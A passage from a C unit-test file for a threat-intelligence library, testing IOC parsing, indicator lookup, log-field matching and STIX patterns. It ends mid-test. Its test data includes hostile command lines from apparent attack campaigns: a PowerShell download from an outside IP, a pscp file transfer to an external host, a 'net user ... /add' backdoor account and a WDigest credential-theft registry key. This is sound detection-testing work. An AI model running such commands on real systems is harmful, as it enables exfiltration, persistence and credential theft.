/* test_intel.c — IOC values, store, field matching, loaders, STIX patterns, geo. */
#include <stdlib.h>
#include <string.h>

#include "test.h"
#include "spoor.h"
#include "intel/ioc_int.h"
#include "sigma/sigma_event.h"

#define S(x) (x), strlen(x)

/* ------------------------------------------------------------- values */

TEST(intel_parse_ip)
{
    ioc_ip ip;
    char b[64];
    CHECK(!ioc_parse_ip(S("175.45.176.27"), 0, 0, &ip) && !ip.v6 && ip.v4 == 0xAF2DB01Bu && ip.prefix == 32);
    CHECK(!ioc_parse_ip(S("175.45.177.9/22"), 1, 0, &ip) && ip.prefix == 22);
    ioc_ip_str(&ip, b, sizeof b);
    CHECK_STR(b, "175.45.176.0/22");
    CHECK(ioc_parse_ip(S("175.45.176.0/22"), 0, 0, &ip));          /* no CIDR wanted */
    CHECK(ioc_parse_ip(S("256.1.1.1"), 1, 1, &ip));
    CHECK(ioc_parse_ip(S("1.2.3"), 1, 1, &ip));
    CHECK(ioc_parse_ip(S("1.2.3.4:80"), 0, 0, &ip));               /* strict */
    CHECK(!ioc_parse_ip(S("1.2.3.4:80"), 0, 1, &ip) && ip.v4 == 0x01020304u);
    CHECK(!ioc_parse_ip(S("::ffff:10.1.2.3"), 0, 1, &ip) && !ip.v6 && ip.v4 == 0x0A010203u);
    CHECK(!ioc_parse_ip(S("[2001:db8::1]:443"), 0, 1, &ip) && ip.v6);
    ioc_ip_str(&ip, b, sizeof b);
    CHECK_STR(b, "2001:db8::1");
    CHECK(!ioc_parse_ip(S("fe80::1%eth0"), 0, 1, &ip) && ip.v6);
    CHECK(!ioc_parse_ip(S("2001:DB8::/32"), 1, 0, &ip) && ip.prefix == 32);
    CHECK(ioc_parse_ip(S("-"), 0, 1, &ip));
}

TEST(intel_detect)
{
    CHECK_EQ_INT(sp_ioc_detect(S("175.45.176.27")), SP_IOC_IPV4);
    CHECK_EQ_INT(sp_ioc_detect(S("193.176.211.0/24")), SP_IOC_IPV4);
    CHECK_EQ_INT(sp_ioc_detect(S("2001:db8::/32")), SP_IOC_IPV6);
    CHECK_EQ_INT(sp_ioc_detect(S("evil.example.com")), SP_IOC_DOMAIN);
    CHECK_EQ_INT(sp_ioc_detect(S("http://15.207.207.64/x")), SP_IOC_URL);
    CHECK_EQ_INT(sp_ioc_detect(S("b3b9d4a2cac8ea76f570bbde5249f076")), SP_IOC_MD5);
    CHECK_EQ_INT(sp_ioc_detect(S("46a934e7b42bfb0a2a9bcecade78f63375192924")), SP_IOC_SHA1);
    CHECK_EQ_INT(sp_ioc_detect(S("CD27DAA4BED5C1CFD02B43C1322829DC5396D545F3912B9694FC5A2499D5089E")), SP_IOC_SHA256);
    CHECK_EQ_INT(sp_ioc_detect(S("acres.exe")), SP_IOC_FILENAME);
    CHECK_EQ_INT(sp_ioc_detect(S("base.jsp")), SP_IOC_FILENAME);
    CHECK_EQ_INT(sp_ioc_detect(S("C:\\Windows\\Temp\\stt.exe")), SP_IOC_FILEPATH);
    CHECK_EQ_INT(sp_ioc_detect(S("/opt/zimbra/jetty_base/webapps/zimbra/public/temp/zlog.txt")), SP_IOC_FILEPATH);
    CHECK_EQ_INT(sp_ioc_detect(S("HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest")), SP_IOC_REGKEY);
    CHECK_EQ_INT(sp_ioc_detect(S("\\\\.\\pipe\\qt-%IX-%X")), SP_IOC_PIPE);
    CHECK_EQ_INT(sp_ioc_detect(S("MTX_Global")), SP_IOC_NONE);
    CHECK_EQ_INT(sp_ioc_type_parse(S("ip-dst")), SP_IOC_IPV4);
    CHECK_EQ_INT(sp_ioc_type_parse(S("named pipe")), SP_IOC_PIPE);
    CHECK_STR(sp_ioc_type_name(SP_IOC_SHA256), "sha256");
}

TEST(intel_normalise)
{
    char o[256];
    size_t n = ioc_refang(S("hxxps://evil[.]com(.)x[:]8080/a"), o, sizeof o);
    o[n] = 0;
    CHECK_STR(o, "https://evil.com.x:8080/a");
    n = ioc_norm_url(S("HTTP://User@Evil.COM:80/Path?q=1#frag"), o, sizeof o);
    o[n] = 0;
    CHECK_STR(o, "http://evil.com/Path?q=1");
    n = ioc_norm_url(S("https://EVIL.com"), o, sizeof o);
    o[n] = 0;
    CHECK_STR(o, "https://evil.com/");
    n = ioc_norm_url(S("https://evil.com:8443/x"), o, sizeof o);
    o[n] = 0;
    CHECK_STR(o, "https://evil.com:8443/x");
    /* a host of dots only is no host (found by fuzz_ioc_csv: the normal
     * form "http:////..." did not normalise to itself) */
    CHECK_EQ_INT(ioc_norm_url(S("http://.://.example/a"), o, sizeof o), 0);
    CHECK_EQ_INT(ioc_norm_url(S("http://.../a"), o, sizeof o), 0);
    n = ioc_norm_url(S("http://evil.com/a b  #frag"), o, sizeof o);
    o[n] = 0;
    CHECK_STR(o, "http://evil.com/a b");
    n = ioc_norm_url(S("http://evil.com./a"), o, sizeof o);
    o[n] = 0;
    CHECK_STR(o, "http://evil.com/a");
    int g;
    n = ioc_norm_path(S("\\Device\\HarddiskVolume2\\Windows\\Temp\\ACRES.exe"), o, sizeof o, &g);
    o[n] = 0;
    CHECK_STR(o, "\\windows\\temp\\acres.exe");
    n = ioc_norm_path(S("%systemroot%\\system32\\spool\\drivers\\x64\\3\\new\\mfcbi.dll"), o, sizeof o, &g);
    o[n] = 0;
    CHECK(g);
    CHECK_STR(o, "*\\system32\\spool\\drivers\\x64\\3\\new\\mfcbi.dll");
    n = ioc_norm_regkey(S("\\REGISTRY\\MACHINE\\SYSTEM\\X\\"), o, sizeof o);
    o[n] = 0;
    CHECK_STR(o, "hklm\\system\\x");
    n = ioc_norm_regkey(S("HKEY_LOCAL_MACHINE\\SYSTEM\\X"), o, sizeof o);
    o[n] = 0;
    CHECK_STR(o, "hklm\\system\\x");
    n = ioc_norm_pipe(S("\\\\.\\pipe\\qt-%IX-%X"), o, sizeof o, &g);
    o[n] = 0;
    CHECK(g);
    CHECK_STR(o, "qt-*-*");
    CHECK(ioc_glob_match(S("qt-*-*"), S("qt-1a2B-ff")));
    CHECK(!ioc_glob_match(S("qt-*-*"), S("qt-1a2b")));
    CHECK(ioc_glob_match(S("*.T?p"), S("abc.tmp")));
    char nm[64], id[16];
    ioc_split_attack_id(S("Lazarus Group - G0032"), nm, sizeof nm, id, sizeof id);
    CHECK_STR(nm, "Lazarus Group");
    CHECK_STR(id, "G0032");
    ioc_split_attack_id(S("Dtrack (S0567)"), nm, sizeof nm, id, sizeof id);
    CHECK_STR(nm, "Dtrack");
    CHECK_STR(id, "S0567");
    ioc_split_attack_id(S("Lazarus Group"), nm, sizeof nm, id, sizeof id);
    CHECK_STR(nm, "Lazarus Group");
    CHECK_STR(id, "");
}

/* --------------------------------------------------------------- store */

static sp_intel *store_of(const char *const *vals, const sp_ioc_type *types, size_t n)
{
    sp_intel *in;
    sp_error e;
    if (sp_intel_new(NULL, &in, &e) != SP_OK) return NULL;
    for (size_t i = 0; i < n; i++) {
        sp_ioc_meta m = {0};
        m.id = vals[i];
        m.confidence = 50;
        if (sp_intel_add(in, types ? types[i] : SP_IOC_NONE, vals[i], strlen(vals[i]), &m, &e) != SP_OK) {
            test_fail(__FILE__, __LINE__, e.msg);
        }
    }
    if (sp_intel_compile(in, &e) != SP_OK) {
        sp_intel_free(in);
        return NULL;
    }
    return in;
}

static int has_hit(const sp_ioc_hit *h, size_t n, const char *id)
{
    for (size_t i = 0; i < n; i++)
        if (!strcmp(h[i].ioc->id, id)) return 1;
    return 0;
}

TEST(intel_store_ip)
{
    const char *v[] = {"175.45.176.27", "175.45.176.0/22", "175.45.176.0/24", "10.0.0.0/8", "0.0.0.0/0",
                       "2001:db8::/32", "2001:db8::7", "255.255.255.255", "175.45.176.27"};
    sp_intel *in = store_of(v, NULL, 9);
    CHECK(in != NULL);
    if (!in) return;
    sp_ioc_hit h[16];
    size_t n = sp_intel_lookup(in, SP_IOC_NONE, S("175.45.176.27"), h, 16);
    CHECK_EQ_INT(n, 5);                      /* /32 twice, /24, /22, /0 */
    CHECK(h[0].exact && h[0].ioc->type == SP_IOC_IPV4);
    CHECK_STR(h[2].ioc->value, "175.45.176.0/24");   /* most specific first */
    CHECK_STR(h[3].ioc->value, "175.45.176.0/22");
    CHECK(!h[3].exact);
    n = sp_intel_lookup(in, SP_IOC_NONE, S("175.45.179.255"), h, 16);
    CHECK_EQ_INT(n, 2);
    n = sp_intel_lookup(in, SP_IOC_NONE, S("175.45.180.0"), h, 16);
    CHECK_EQ_INT(n, 1);                      /* only 0.0.0.0/0 */
    n = sp_intel_lookup(in, SP_IOC_NONE, S("255.255.255.255"), h, 16);
    CHECK_EQ_INT(n, 2);
    n = sp_intel_lookup(in, SP_IOC_NONE, S("2001:db8::7"), h, 16);
    CHECK_EQ_INT(n, 2);
    n = sp_intel_lookup(in, SP_IOC_NONE, S("2001:db9::7"), h, 16);
    CHECK_EQ_INT(n, 0);
    n = sp_intel_lookup(in, SP_IOC_NONE, S("10.200.3.4"), h, 16);
    CHECK_EQ_INT(n, 2);
    n = sp_intel_lookup(in, SP_IOC_NONE, S("175.45.176.27"), h, 2);   /* bounded */
    CHECK_EQ_INT(n, 2);
    sp_intel_free(in);
}

TEST(intel_store_kinds)
{
    const char *v[] = {"evil.example", "host.bad.example", "http://Evil.example/Path", "46A934E7B42BFB0A2A9BCECADE78F63375192924",
                       "b3b9d4a2cac8ea76f570bbde5249f076", "b3b9d4a2cac8ea76f570bbde5249f076", "acres.exe",
                       "C:\\Windows\\Temp\\stt.exe", "*.tmp", "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest",
                       "\\\\.\\pipe\\qt-%IX-%X", "MTX_Global", "%TEMP%\\temp\\*.res", "Software\\RDPWrap"};
    sp_ioc_type t[] = {SP_IOC_DOMAIN, SP_IOC_HOSTNAME, SP_IOC_URL, SP_IOC_SHA1, SP_IOC_MD5, SP_IOC_IMPHASH,
                       SP_IOC_FILENAME, SP_IOC_FILEPATH, SP_IOC_FILENAME, SP_IOC_REGKEY, SP_IOC_PIPE, SP_IOC_MUTEX,
                       SP_IOC_FILEPATH, SP_IOC_REGKEY};
    sp_intel *in = store_of(v, t, sizeof v / sizeof *v);
    CHECK(in != NULL);
    if (!in) return;
    sp_ioc_hit h[16];
    size_t n;
    n = sp_intel_lookup(in, SP_IOC_NONE, S("EVIL.example."), h, 16);
    CHECK(n == 1 && h[0].exact);
    n = sp_intel_lookup(in, SP_IOC_NONE, S("a.b.evil.example"), h, 16);
    CHECK(n == 1 && !h[0].exact);
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("notevil.example"), h, 16), 0);
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("host.bad.example"), h, 16), 1);
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("x.host.bad.example"), h, 16), 0);   /* hostname: exact */
    n = sp_intel_lookup(in, SP_IOC_NONE, S("HTTP://evil.example:80/Path#x"), h, 16);
    CHECK_EQ_INT(n, 2);                      /* the URL and its domain */
    CHECK(has_hit(h, n, "http://Evil.example/Path") && has_hit(h, n, "evil.example"));
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("http://evil.example/path"), h, 16), 1);   /* path case kept */
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("46a934e7b42bfb0a2a9bcecade78f63375192924"), h, 16), 1);
    n = sp_intel_lookup(in, SP_IOC_NONE, S("B3B9D4A2CAC8EA76F570BBDE5249F076"), h, 16);
    CHECK_EQ_INT(n, 2);                      /* md5 and imphash */
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_IMPHASH, S("B3B9D4A2CAC8EA76F570BBDE5249F076"), h, 16), 1);
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("ACRES.EXE"), h, 16), 1);
    n = sp_intel_lookup(in, SP_IOC_NONE, S("D:\\x\\acres.exe"), h, 16);
    CHECK(n == 1 && h[0].ioc->type == SP_IOC_FILENAME);
    n = sp_intel_lookup(in, SP_IOC_NONE, S("\\Device\\HarddiskVolume3\\windows\\temp\\STT.exe"), h, 16);
    CHECK(n == 1 && h[0].exact && h[0].ioc->type == SP_IOC_FILEPATH);
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("C:\\Windows\\Temp\\abcdefgh.tmp"), h, 16), 1);
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("C:\\Users\\x\\AppData\\Local\\Temp\\temp\\info.res"), h, 16), 1);
    n = sp_intel_lookup(in, SP_IOC_REGKEY,
                        S("\\REGISTRY\\MACHINE\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential"),
                        h, 16);
    CHECK(n == 1 && !h[0].exact);
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_REGKEY, S("HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders"), h, 16), 0);
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_REGKEY, S("HKU\\S-1-5-21-1\\Software\\RDPWrap\\x"), h, 16), 1);
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_PIPE, S("\\qt-7f3a-1b"), h, 16), 1);
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_MUTEX, S("Global\\MTX_Global"), h, 16), 1);
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_MUTEX, S("mtx_global"), h, 16), 0);
    sp_intel_stats st;
    sp_intel_get_stats(in, &st);
    CHECK_EQ_INT(st.iocs, sizeof v / sizeof *v);
    CHECK_EQ_INT(st.by_type[SP_IOC_FILEPATH], 2);
    sp_intel_free(in);
}

TEST(intel_store_errors)
{
    sp_intel *in;
    sp_error e;
    CHECK(sp_intel_new(NULL, &in, &e) == SP_OK);
    CHECK(sp_intel_add(in, SP_IOC_MD5, S("abc"), NULL, &e) == SP_ERR_FORMAT);
    CHECK(strstr(e.msg, "MD5") != NULL);
    CHECK(sp_intel_add(in, SP_IOC_NONE, S("just words"), NULL, &e) == SP_ERR_FORMAT);
    CHECK(sp_intel_add(in, SP_IOC_IPV4, S("1.2.3.4.5"), NULL, &e) == SP_ERR_FORMAT);
    CHECK(sp_intel_add(in, SP_IOC_NONE, S("1.2.3.4"), NULL, &e) == SP_OK);
    CHECK(sp_intel_compile(in, &e) == SP_OK);
    CHECK(sp_intel_add(in, SP_IOC_NONE, S("1.2.3.5"), NULL, &e) == SP_ERR_ARG);
    sp_ioc_hit h[4];
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("1.2.3.4"), h, 4), 1);
    CHECK(h[0].ioc->confidence == -1 && h[0].ioc->valid_from_ms == INT64_MIN && sp_ioc_valid_at(h[0].ioc, 0));
    sp_intel_free(in);
    /* an empty store answers nothing */
    CHECK(sp_intel_new(NULL, &in, &e) == SP_OK && sp_intel_compile(in, &e) == SP_OK);
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("1.2.3.4"), h, 4), 0);
    CHECK_EQ_INT(sp_intel_match_field(in, S("CommandLine"), S("ping 1.2.3.4 evil.com"), h, 4), 0);
    sp_intel_free(in);
}

/* ------------------------------------------------------ field matching */

static sp_intel *campaign_store(void)
{
    const char *v[] = {"175.45.176.0/22", "104.225.129.103", "evil.example", "46a934e7b42bfb0a2a9bcecade78f63375192924",
                       "b3b9d4a2cac8ea76f570bbde5249f076", "acres.exe", "C:\\Windows\\Temp\\stt.exe",
                       "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest", "\\\\.\\pipe\\qt-%IX-%X",
                       "http://15.207.207.64/inbox", "2001:db8::dead"};
    sp_ioc_type t[] = {0, 0, 0, 0, SP_IOC_IMPHASH, 0, 0, 0, 0, 0, 0};
    return store_of(v, t, sizeof v / sizeof *v);
}

TEST(intel_match_field)
{
    sp_intel *in = campaign_store();
    CHECK(in != NULL);
    if (!in) return;
    sp_ioc_hit h[16];
    size_t n;
    CHECK_EQ_INT(sp_intel_match_field(in, S("IpAddress"), S("::ffff:175.45.176.27"), h, 16), 1);
    CHECK_EQ_INT(sp_intel_match_field(in, S("c-ip"), S("175.45.177.1"), h, 16), 1);
    CHECK_EQ_INT(sp_intel_match_field(in, S("winlog.event_data.DestinationIp"), S("104.225.129.103"), h, 16), 1);
    CHECK_EQ_INT(sp_intel_match_field(in, S("source.ip"), S("[2001:db8::dead]:443"), h, 16), 1);
    CHECK_EQ_INT(sp_intel_match_field(in, S("X-Forwarded-For"), S("10.0.0.1, 175.45.176.27"), h, 16), 1);
    CHECK_EQ_INT(sp_intel_match_field(in, S("SourcePort"), S("443"), h, 16), 0);
    CHECK_EQ_INT(sp_intel_match_field(in, S("QueryName"), S("cdn.EVIL.example."), h, 16), 1);
    CHECK_EQ_INT(sp_intel_match_field(in, S("Host"), S("evil.example:8080"), h, 16), 1);
    n = sp_intel_match_field(in, S("Hashes"),
                             S("SHA1=46A934E7B42BFB0A2A9BCECADE78F63375192924,MD5=00000000000000000000000000000000,"
                               "IMPHASH=B3B9D4A2CAC8EA76F570BBDE5249F076"),
                             h, 16);
    CHECK_EQ_INT(n, 2);
    CHECK(h[0].off == 5 && h[0].len == 40);
    CHECK_EQ_INT(sp_intel_match_field(in, S("Hashes"), S("MD5=B3B9D4A2CAC8EA76F570BBDE5249F076"), h, 16), 0);  /* imphash only */
    CHECK_EQ_INT(sp_intel_match_field(in, S("Image"), S("C:\\Windows\\Temp\\acres.exe"), h, 16), 1);
    n = sp_intel_match_field(in, S("NewProcessName"), S("c:\\windows\\temp\\stt.exe"), h, 16);
    CHECK(n == 1 && h[0].ioc->type == SP_IOC_FILEPATH);
    CHECK_EQ_INT(sp_intel_match_field(in, S("OriginalFileName"), S("Acres.exe"), h, 16), 1);
    n = sp_intel_match_field(in, S("CommandLine"),
                             S("cmd.exe /C echo y | c:\\windows\\temp\\pscp.exe -scp -P 22 x.txt user@104.225.129.103:/home/u/"),
                             h, 16);
    CHECK_EQ_INT(n, 1);
    CHECK(n == 1 && h[0].len == 15 && h[0].off == 67);
    n = sp_intel_match_field(in, S("ImagePath"), S("cmd /K start c:\\windows\\temp\\acres.exe"), h, 16);
    CHECK_EQ_INT(n, 1);
    n = sp_intel_match_field(in, S("CommandLine"), S("powershell iwr http://15.207.207.64/inbox -o a; nslookup x.evil.example"), h, 16);
    CHECK_EQ_INT(n, 2);
    CHECK_EQ_INT(sp_intel_match_field(in, S("TargetObject"),
                                      S("HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential"), h, 16), 1);
    CHECK_EQ_INT(sp_intel_match_field(in, S("ObjectName"),
                                      S("\\REGISTRY\\MACHINE\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest"), h, 16), 1);
    CHECK_EQ_INT(sp_intel_match_field(in, S("PipeName"), S("\\qt-12AB-7"), h, 16), 1);
    /* unknown fields: only whole values that look like indicators */
    CHECK_EQ_INT(sp_intel_match_field(in, S("Whatever"), S("175.45.176.1"), h, 16), 1);
    CHECK_EQ_INT(sp_intel_match_field(in, S("Whatever"), S("a.evil.example"), h, 16), 1);
    CHECK_EQ_INT(sp_intel_match_field(in, S("Whatever"), S("text with 175.45.176.1 inside"), h, 16), 0);
    CHECK_EQ_INT(sp_intel_match_field(in, S("EventID"), S("4624"), h, 16), 0);
    sp_intel_free(in);
}

static int count_hit(void *user, const char *f, size_t fl, const char *v, size_t vl, const sp_ioc_hit *h)
{
    (void)f; (void)fl; (void)v; (void)vl; (void)h;
    ++*(int *)user;
    return 0;
}

TEST(intel_match_event)
{
    sp_intel *in;
    sp_error e;
    CHECK(sp_intel_new(NULL, &in, &e) == SP_OK);
    sp_intel_add(in, SP_IOC_NONE, S("175.45.176.27"), NULL, &e);
    CHECK(sp_intel_add(in, SP_IOC_PATTERN, S("[process:command_line LIKE '%net user support%' AND file:name = 'cmd.exe']"),
                       NULL, &e) == SP_OK);
    CHECK(sp_intel_add(in, SP_IOC_PATTERN, S("[network-traffic:dst_port = 1357]"), NULL, &e) == SP_OK);
    CHECK(sp_intel_compile(in, &e) == SP_OK);
    const char *kv[] = {"EventID", "1", "Image", "C:\\Windows\\System32\\cmd.exe", "CommandLine",
                        "cmd.exe /C net user support 1234qWeR@#@# /add", "SourceIp", "175.45.176.27",
                        "DestinationPort", "1357"};
    sp_kv_event k = {kv, 5, 0, 1660000000000LL};
    sp_event ev;
    sp_event_from_kv(&ev, &k);
    int n = 0;
    CHECK_EQ_INT(sp_intel_match_event(in, &ev, count_hit, &n), 3);
    CHECK_EQ_INT(n, 3);
    kv[3] = "C:\\Windows\\System32\\whoami.exe";
    n = 0;
    CHECK_EQ_INT(sp_intel_match_event(in, &ev, count_hit, &n), 2);
    sp_intel_free(in);
}

/* --------------------------------------------------------- STIX patterns */

static int pm(const char *pat, const sp_obs_value *v, size_t n, int64_t t)
{
    sp_stix_pattern *p;
    sp_error e;
    if (sp_stix_pattern_compile(pat, strlen(pat), &p, &e) != SP_OK) {
        test_fail(__FILE__, __LINE__, e.msg);
        return -1;
    }
    sp_observation o = {"", t, t, 1, v, n};
    int r = sp_stix_pattern_match(p, &o, 1);
    sp_stix_pattern_free(p);
    return r;
}

TEST(intel_stix_compare)
{
    sp_obs_value v[] = {{"ipv4-addr:value", S("175.45.176.27")},
                        {"file:hashes.'SHA-1'", S("46A934E7B42BFB0A2A9BCECADE78F63375192924")},
                        {"file:name", S("Acres.exe")},
                        {"process:command_line", S("cmd /K start c:\\windows\\temp\\acres.exe")},
                        {"network-traffic:dst_port", S("1357")},
                        {"windows-registry-key:key", S("\\REGISTRY\\MACHINE\\SYSTEM\\X")},
                        {"url:value", S("HTTP://EVIL.example/a")},
                        {"domain-name:value", S("Evil.Example")}};
    size_t n = sizeof v / sizeof *v;
    CHECK_EQ_INT(pm("[ipv4-addr:value = '175.45.176.27']", v, n, 0), 1);
    CHECK_EQ_INT(pm("[ipv4-addr:value == '175.45.176.28']", v, n, 0), 0);
    CHECK_EQ_INT(pm("[ipv4-addr:value != '175.45.176.28']", v, n, 0), 1);
    CHECK_EQ_INT(pm("[ipv4-addr:value NOT = '175.45.176.27']", v, n, 0), 0);
    CHECK_EQ_INT(pm("[ipv4-addr:value IN ('1.1.1.1', '175.45.176.27')]", v, n, 0), 1);
    CHECK_EQ_INT(pm("[ipv4-addr:value ISSUBSET '175.45.176.0/22']", v, n, 0), 1);
    CHECK_EQ_INT(pm("[ipv4-addr:value ISSUBSET '175.45.180.0/22']", v, n, 0), 0);
    CHECK_EQ_INT(pm("[ipv4-addr:value ISSUPERSET '175.45.176.27/32']", v, n, 0), 1);
    CHECK_EQ_INT(pm("[file:hashes.'SHA-1' = '46a934e7b42bfb0a2a9bcecade78f63375192924']", v, n, 0), 1);
    CHECK_EQ_INT(pm("[file:hashes.SHA1 = '46a934e7b42bfb0a2a9bcecade78f63375192924']", v, n, 0), 1);
    CHECK_EQ_INT(pm("[file:name = 'acres.exe']", v, n, 0), 1);
    CHECK_EQ_INT(pm("[file:name LIKE 'acr_s.%']", v, n, 0), 1);
    CHECK_EQ_INT(pm("[process:command_line LIKE '%acres.exe']", v, n, 0), 1);
    CHECK_EQ_INT(pm("[process:command_line LIKE 'acres.exe']", v, n, 0), 0);
    CHECK_EQ_INT(pm("[process:command_line MATCHES '^cmd /K start .*\\\\\\\\acres\\\\.exe$']", v, n, 0), 1);
    CHECK_EQ_INT(pm("[process:command_line MATCHES 'ACRES']", v, n, 0), 0);
    CHECK_EQ_INT(pm("[network-traffic:dst_port > 1024 AND network-traffic:dst_port <= 1357]", v, n, 0), 1);
    CHECK_EQ_INT(pm("[network-traffic:dst_port < 1024]", v, n, 0), 0);
    CHECK_EQ_INT(pm("[network-traffic:dst_port >= 1357.0]", v, n, 0), 1);
    CHECK_EQ_INT(pm("[windows-registry-key:key = 'HKEY_LOCAL_MACHINE\\\\system\\\\x']", v, n, 0), 1);
    CHECK_EQ_INT(pm("[url:value = 'http://evil.example/a']", v, n, 0), 1);
    CHECK_EQ_INT(pm("[domain-name:value = 'evil.example']", v, n, 0), 1);
    CHECK_EQ_INT(pm("[file:size > 10]", v, n, 0), 0);               /* absent: false */
    CHECK_EQ_INT(pm("[file:size NOT > 10]", v, n, 0), 0);           /* absent: false even negated */
    CHECK_EQ_INT(pm("[EXISTS file:name]", v, n, 0), 1);
    CHECK_EQ_INT(pm("[file:name = 'x' OR (ipv4-addr:value = '175.45.176.27' AND file:name = 'acres.exe')]", v, n, 0), 1);
    CHECK_EQ_INT(pm("[file:name = 'x'] OR [ipv4-addr:value = '175.45.176.27']", v, n, 0), 1);
    CHECK_EQ_INT(pm("[ipv4-addr:value = '175.45.176.27'] START t'2022-01-01T00:00:00Z' STOP t'2023-01-01T00:00:00Z'",
                    v, n, 1660000000000LL), 1);
    CHECK_EQ_INT(pm("[ipv4-addr:value = '175.45.176.27'] START t'2023-01-01T00:00:00Z' STOP t'2024-01-01T00:00:00Z'",
                    v, n, 1660000000000LL), 0);
    CHECK_EQ_INT(pm("[file:name = h'41637265732e657865']", v, n, 0), 1);   /* "Acres.exe" */
    CHECK_EQ_INT(pm("[file:name = b'QWNyZXMuZXhl']", v, n, 0), 1);
}

TEST(intel_stix_syntax)
{
    static const char *const bad[] = {
        "", "[", "[ipv4-addr:value = '1.2.3.4'", "ipv4-addr:value = '1.2.3.4'", "[ipv4-addr:value '1.2.3.4']",
        "[ipv4-addr:value = 'x] AND", "[ipv4-addr:value IN '1']", "[ipv4-addr:value MATCHES '(']",
        "[ipv4-addr:value ISSUBSET 'nope']", "[a:b = 1] WITHIN -1 SECONDS", "[a:b = 1] REPEATS 0 TIMES",
        "[a:b = 1] START t'2020-01-01T00:00:00Z'", "[a:b = 'x\\q']", "[a:b = 1] and [a:b = 2]", "[a:b = t'notatime']",
        "[:b = 1]", "[a: = 1]", "[a:b[x] = 1]",
    };
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
        sp_stix_pattern *p;
        sp_error e;
        if (sp_stix_pattern_compile(bad[i], strlen(bad[i]), &p, &e) == SP_OK) {
            test_fail(__FILE__, __LINE__, bad[i]);
            sp_stix_pattern_free(p);
        } else
            CHECK(e.msg[0] != 0);
    }
    static const char *const good[] = {
        "[file:hashes.'SHA-256' = 'x']", "[network-traffic:extensions.'http-request-ext'.request_header.'Host' = 'a']",
        "[windows-registry-key:values[*].name = 'x']", "[file:x[0].y = true]", "[a:b = -1.5]",
        "([a:b = 1] AND [a:c = 2]) FOLLOWEDBY [a:d = 3] WITHIN 10 SECONDS REPEATS 2 TIMES",
        "[a:b = 'it\\'s \\\\ ok']", "(([a:b = 1]))", "[(a:b = 1 OR a:c = 2) AND NOT_A:x = 3]",
    };
    for (size_t i = 0; i < sizeof good / sizeof *good; i++) {
        sp_stix_pattern *p;
        sp_error e;
        if (sp_stix_pattern_compile(good[i], strlen(good[i]), &p, &e) != SP_OK) test_fail(__FILE__, __LINE__, good[i]);
        else sp_stix_pattern_free(p);
    }
    /* deep nesting is bounded */
    char deep[4096];
    size_t k = 0;
    for (int i = 0; i < 1000; i++) deep[k++] = '(';
    deep[k] = 0;
    sp_stix_pattern *p;
    sp_error e;
    CHECK(sp_stix_pattern_compile(deep, k, &p, &e) == SP_ERR_FORMAT);
}

TEST(intel_stix_observations)
{
    sp_obs_value a[] = {{"ipv4-addr:value", S("175.45.176.27")}};
    sp_obs_value b[] = {{"process:command_line", S("net user support 1234qWeR@#@# /add")}};
    sp_observation o[3] = {{"o1", 1000000, 1000000, 1, a, 1}, {"o2", 1060000, 1060000, 1, b, 1},
                           {"o3", 1120000, 1120000, 1, a, 1}};
    const char *pat = "[ipv4-addr:value = '175.45.176.27'] FOLLOWEDBY [process:command_line LIKE '%support%']";
    sp_stix_pattern *p;
    sp_error e;
    CHECK(sp_stix_pattern_compile(pat, strlen(pat), &p, &e) == SP_OK);
    CHECK(!sp_stix_pattern_single(p));
    CHECK_EQ_INT(sp_stix_pattern_match(p, o, 3), 1);
    CHECK_EQ_INT(sp_stix_pattern_match(p, o + 1, 2), 0);      /* the command came first */
    sp_stix_pattern_free(p);
    pat = "([ipv4-addr:value = '175.45.176.27'] AND [process:command_line LIKE '%support%']) WITHIN 30 SECONDS";
    CHECK(sp_stix_pattern_compile(pat, strlen(pat), &p, &e) == SP_OK);
    CHECK_EQ_INT(sp_stix_pattern_match(p, o, 3), 0);           /* 60 s apart */
    sp_stix_pattern_free(p);
    pat = "([ipv4-addr:value = '175.45.176.27'] AND [process:command_line LIKE '%support%']) WITHIN 60 SECONDS";
    CHECK(sp_stix_pattern_compile(pat, strlen(pat), &p, &e) == SP_OK);
    CHECK_EQ_INT(sp_stix_pattern_match(p, o, 3), 1);
    sp_stix_pattern_free(p);
    pat = "[ipv4-addr:value = '175.45.176.27'] REPEATS 2 TIMES WITHIN 120 SECONDS";
    CHECK(sp_stix_pattern_compile(pat, strlen(pat), &p, &e) == SP_OK);
    CHECK_EQ_INT(sp_stix_pattern_match(p, o, 3), 1);
    sp_stix_pattern_free(p);
    pat = "[ipv4-addr:value = '175.45.176.27'] REPEATS 2 TIMES WITHIN 100 SECONDS";
    CHECK(sp_stix_pattern_compile(pat, strlen(pat), &p, &e) == SP_OK);
    CHECK_EQ_INT(sp_stix_pattern_match(p, o, 3), 0);
    CHECK_EQ_INT(sp_stix_pattern_match(p, o, 1), 0);
    sp_stix_pattern_free(p);
}

/* ------------------------------------------------------------- loaders */

TEST(intel_csv_loader)
{
    const char *csv = "# comment\n"
                      "value,type,actor,comment,confidence,tags\n"
                      "175.45.176[.]27,,Lazarus Group - G0032,\"NK, web shell\",90,dprk;opsec\n"
